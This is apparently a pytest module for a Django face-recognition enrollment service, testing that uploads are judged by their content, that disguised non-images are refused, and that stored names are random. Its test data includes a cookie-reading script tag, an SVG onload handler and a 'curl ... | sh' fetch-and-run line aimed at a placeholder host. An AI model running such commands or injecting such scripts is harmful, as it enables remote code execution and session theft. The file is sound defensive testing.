"""Uploads are judged by their bytes, never by their name or declared type; stored names are random.

Enrollment through the API and the pages, and identify/verify probes: the format is
sniffed from the bytes (recognition.pipeline.images), stored as the photo's content type
and served as such; what is not an accepted image is refused with a clear code and
nothing is stored. Real database and photos; the `db` fixture, so no task is sent.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from enrollment import services
from identities.models import EnrollmentImage, Identity, private_storage
from tests import photo_fixtures
from tests.api_helpers import api_client, assert_error
from tests.photo_fixtures import lfw_bytes

pytestmark = pytest.mark.django_db
# Fixtures shared with the other photo tests (pytest finds them in this module's namespace).
admin_user, person, page_client = photo_fixtures.admin_user, photo_fixtures.person, photo_fixtures.page_client

STORED_NAME = re.compile(r"enrollment/[0-9a-f]{4}/[0-9a-f]{32}\.img")

NOT_IMAGES = {
    "html": b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
    "script": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
}


def as_format(data: bytes, fmt: str, **options) -> bytes:
    buf = io.BytesIO()
    with Image.open(io.BytesIO(data)) as im:
        im.convert("RGB").save(buf, format=fmt, **options)
    return buf.getvalue()


def disguised(data: bytes, name: str = "photo.jpg") -> SimpleUploadedFile:
    """Whatever `data` is, named and declared a JPEG."""
    return SimpleUploadedFile(name, data, content_type="image/jpeg")


def files_on_disk() -> set[Path]:
    root = Path(private_storage.location)
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


# --- the format comes from the bytes -----------------------------------------------------


def test_a_png_named_and_declared_jpeg_is_stored_and_served_as_png(person, admin_user, page_client):
    png = as_format(lfw_bytes(), "PNG")
    response = api_client(admin_user).post(f"/api/v1/identities/{person.pk}/photos/", {"photos": [disguised(png)]},
                                           format="multipart")
    assert response.status_code == 202, response.content
    photo = EnrollmentImage.objects.get(pk=response.json()["photos"][0]["id"])
    assert photo.content_type == "image/png"
    assert api_client(admin_user).get(f"/api/v1/photos/{photo.pk}/").json()["content_type"] == "image/png"

    served = page_client.get(reverse("identities:photo_original", args=[photo.pk]))
    assert served.status_code == 200
    assert served["Content-Type"] == "image/png"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert b"".join(served.streaming_content) == png


def test_the_enroll_pages_store_the_sniffed_type_too(person, page_client):
    webp = as_format(lfw_bytes(n=2), "WEBP")
    response = page_client.post(reverse("identities:add_photos", args=[person.pk]), {"photos": [disguised(webp)]})
    assert response.status_code == 302
    data = {"display_name": "Colin Powell", "given_by": "self", "given_by_name": "Colin Powell",
            "purpose": "building access", "wording_version": "v1", "consent_given": "on",
            "photos": [disguised(as_format(lfw_bytes("Colin_Powell"), "BMP"), name="colin.png")]}
    assert page_client.post(reverse("identities:create"), data).status_code == 302
    assert person.images.get().content_type == "image/webp"
    assert Identity.objects.get(display_name="Colin Powell").images.get().content_type == "image/bmp"


def test_a_multi_picture_jpeg_from_a_phone_is_stored_as_jpeg(person, admin_user):
    with Image.open(io.BytesIO(lfw_bytes())) as im:
        buf = io.BytesIO()
        im.save(buf, format="MPO", save_all=True, append_images=[im.copy()])
    [photo] = services.enroll_photos(identity=person, uploads=[services.Upload(name="phone.jpg",
                                                                               data=buf.getvalue())])
    assert photo.content_type == "image/jpeg"  # not image/mpo, which browsers do not show


@pytest.mark.parametrize("kind", sorted(NOT_IMAGES))
def test_a_non_image_named_jpg_is_refused_by_the_api_and_nothing_is_stored(kind, person, admin_user):
    before = files_on_disk()
    response = api_client(admin_user).post(f"/api/v1/identities/{person.pk}/photos/",
                                           {"photos": [disguised(NOT_IMAGES[kind], name=f"{kind}.jpg")]},
                                           format="multipart")
    assert_error(response, 400, "not_an_image", field="photos")
    assert not EnrollmentImage.objects.exists()
    assert files_on_disk() == before


def test_an_image_of_a_refused_format_named_jpg_is_unsupported(person, admin_user):
    gif = as_format(lfw_bytes(), "GIF")
    response = api_client(admin_user).post(f"/api/v1/identities/{person.pk}/photos/",
                                           {"photos": [disguised(gif)]}, format="multipart")
    assert_error(response, 400, "unsupported_format", field="photos")
    assert not EnrollmentImage.objects.exists()


def test_one_disguised_file_refuses_the_whole_upload(person, admin_user):
    before = files_on_disk()
    body = {"photos": [disguised(lfw_bytes(), name="good.jpg"), disguised(NOT_IMAGES["html"], name="bad.jpg")]}
    response = api_client(admin_user).post(f"/api/v1/identities/{person.pk}/photos/", body, format="multipart")
    error = assert_error(response, 400, "not_an_image", field="photos")
    assert "bad.jpg" in error["message"]
    assert not EnrollmentImage.objects.exists()
    assert files_on_disk() == before


def test_the_enroll_page_refuses_a_non_image_beside_the_field(person, page_client):
    before = files_on_disk()
    response = page_client.post(reverse("identities:add_photos", args=[person.pk]),
                                {"photos": [disguised(NOT_IMAGES["svg"], name="face.jpg")]})
    assert response.status_code == 200
    assert "not a recognised image" in str(response.context["photos_form"].errors["photos"])
    assert not EnrollmentImage.objects.exists()
    assert files_on_disk() == before


@pytest.mark.parametrize("kind", sorted(NOT_IMAGES))
def test_identify_and_verify_refuse_a_non_image_probe_named_jpg(kind, admin_user):
    client = api_client(admin_user)
    identify = client.post("/api/v1/identify", {"image": disguised(NOT_IMAGES[kind])}, format="multipart")
    assert_error(identify, 400, "not_an_image", field="image")
    verify = client.post("/api/v1/verify", {"image_a": disguised(lfw_bytes()), "image_b": disguised(NOT_IMAGES[kind])},
                         format="multipart")
    assert_error(verify, 400, "not_an_image", field="image_b")


def test_the_identify_page_refuses_a_non_image_probe_beside_the_field(page_client):
    response = page_client.post(reverse("recognition:identify"),
                                {"image": disguised(NOT_IMAGES["html"]), "top_k": 5})
    assert response.status_code == 200
    assert "not a recognised image" in str(response.context["form"].errors["image"])


# --- names on disk ------------------------------------------------------------------------


def test_stored_file_names_are_random_and_never_the_uploaded_name(person, admin_user):
    upload = disguised(lfw_bytes(), name="George_W_Bush_passport_1946-07-06.jpg")
    response = api_client(admin_user).post(f"/api/v1/identities/{person.pk}/photos/", {"photos": [upload]},
                                           format="multipart")
    assert response.status_code == 202
    photo = EnrollmentImage.objects.get()
    assert STORED_NAME.fullmatch(photo.file.name), photo.file.name
    path = Path(private_storage.path(photo.file.name))
    assert path.is_file()
    assert not any(part in str(path) for part in ("George", "Bush", "passport", "1946", ".jpg"))


def test_a_stored_type_outside_the_sniffed_ones_is_served_as_plain_bytes(person, page_client):
    [photo] = services.enroll_photos(identity=person, uploads=[services.Upload(name="a.jpg", data=lfw_bytes())])
    EnrollmentImage.objects.filter(pk=photo.pk).update(content_type="text/html")  # e.g. a row from elsewhere
    served = page_client.get(reverse("identities:photo_original", args=[photo.pk]))
    assert served["Content-Type"] == "application/octet-stream"
